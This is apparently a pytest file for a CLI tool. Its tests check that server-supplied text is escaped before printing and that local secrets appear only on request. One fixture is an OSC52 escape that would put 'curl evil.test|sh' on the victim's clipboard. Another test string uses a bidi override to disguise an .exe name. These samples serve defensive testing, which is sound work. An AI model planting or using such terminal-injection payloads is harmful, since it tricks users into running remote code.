"""Issue 18: what the CLI prints from a server cannot drive the terminal, and the local cloud's secrets stay off
stdout unless asked for."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import responses

from challenger.cli import BearerToken, Target, audit_list, escape_controls, local_token, runs_show

API = "http://127.0.0.1:9/v1"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\x07"  # write "curl evil.test|sh" to the clipboard


def target() -> Target:
    return Target(API, "the-key", "data-bucket", None, operator_auth=BearerToken("op-token"))


@responses.activate
def test_audit_prints_a_comments_terminal_escape_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    entry = {"at": "2026-12-07T20:00:00Z", "action": "APPROVE", "actor": "eve", "via": "console", "comment": OSC52}
    responses.get(f"{API}/operator/audit?limit=5", json={"entries": [entry], "next": None})
    audit_list(target(), 5)
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\\x1b]52;c;" in out


@responses.activate
def test_every_print_of_remote_text_is_escaped_c1_and_bidi_too(capsys: pytest.CaptureFixture[str]) -> None:
    run = {"run_id": "r1", "status": "FAILED", "dataset": "d", "error": "\x9b2J\u202egnp.exe\r\rcleared"}
    responses.get(f"{API}/operator/runs/r1", json={"run": run, "steps": [], "audit": []})
    runs_show(target(), "r1")
    out = capsys.readouterr().out
    assert not any(c in out for c in "\x9b\u202e\r")
    assert "\\x9b2J\\u202egnp.exe\\r\\rcleared" in out


def test_tabs_newlines_and_text_are_kept() -> None:
    assert escape_controls("a\tb\r\nc — é ✓") == "a\tb\nc — é ✓"


def test_local_token_prints_the_key_and_link_only_when_asked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    info = {"api_key": "local-k", "dashboard_url": "http://127.0.0.1:1/#token=t", "console_token": "t", "pid": 1}
    (tmp_path / "local.json").write_text(json.dumps(info))
    local_token(rotate=False, state_dir=tmp_path)
    assert capsys.readouterr().out == "API key    local-k\ndashboard  http://127.0.0.1:1/#token=t\n"
